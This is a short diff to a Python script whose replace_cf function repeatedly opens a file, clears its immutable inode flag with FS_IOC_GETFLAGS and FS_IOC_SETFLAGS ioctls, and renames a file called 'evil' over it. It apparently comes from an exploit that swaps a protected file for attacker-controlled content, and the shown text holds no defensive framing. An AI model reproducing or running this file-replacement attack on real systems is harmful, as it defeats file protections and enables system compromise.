@@ -6,6 +6,7 @@ from __future__ import annotations
 import fcntl
 import json
 import os
+import struct
 import subprocess
 import sys
 import time
@@ -48,7 +49,8 @@ def replace_cf() -> bool:
     for _ in range(5000):
         try:
             descriptor = os.open(CF, os.O_RDONLY)
-            fcntl.ioctl(descriptor, 0x40086602, bytes(8))
+            now = struct.unpack("I4x", fcntl.ioctl(descriptor, 0x80086601, bytes(8)))[0]
+            fcntl.ioctl(descriptor, 0x40086602, struct.pack("I4x", now & ~0x10))
             os.close(descriptor)
             os.rename(evil, CF)
         except PermissionError:
